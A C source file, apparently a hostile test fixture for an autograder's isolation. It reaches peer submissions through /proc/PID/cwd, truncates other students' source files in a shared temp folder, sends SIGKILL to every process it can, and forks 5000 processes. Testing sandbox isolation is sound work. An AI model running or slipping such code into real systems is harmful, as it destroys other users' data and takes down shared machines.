/* hostile.c -- goes after the other students graded at the same time
 * (grade-class -j 4): kill(-1), reading their files through /proc/PID/cwd and
 * the shared temporary folder, rewriting their copies, then taking every
 * process its uid may have. Prints what the fixture's greet suite wants
 * ("hello, Ada") only if it reached a peer's file. */
#include <dirent.h>
#include <fcntl.h>
#include <glob.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    int reached = 0;
    char self[64];
    snprintf(self, sizeof self, "%d", getpid());
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (atoi(e->d_name) <= 1 || strcmp(e->d_name, self) == 0)
            continue;
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/cwd/greet.c", e->d_name);
        int fd = open(path, O_RDWR);
        if (fd >= 0) {
            reached = 1;
            close(fd);
        }
    }
    if (d)
        closedir(d);
    glob_t g;
    if (glob("/tmp/evlab-grade-*/ex-*/*.c", 0, NULL, &g) == 0) {
        for (size_t i = 0; i < g.gl_pathc; i++) {
            int fd = open(g.gl_pathv[i], O_WRONLY | O_TRUNC);
            if (fd >= 0) {
                reached = 1;
                close(fd);
            }
        }
        globfree(&g);
    }
    if (reached)
        printf("hello, Ada\n");
    fflush(stdout);
    kill(-1, SIGKILL);
    for (int i = 0; i < 5000; i++)
        if (fork() == 0) {
            pause();
            _exit(0);
        }
    sleep(2);
    return 0;
}
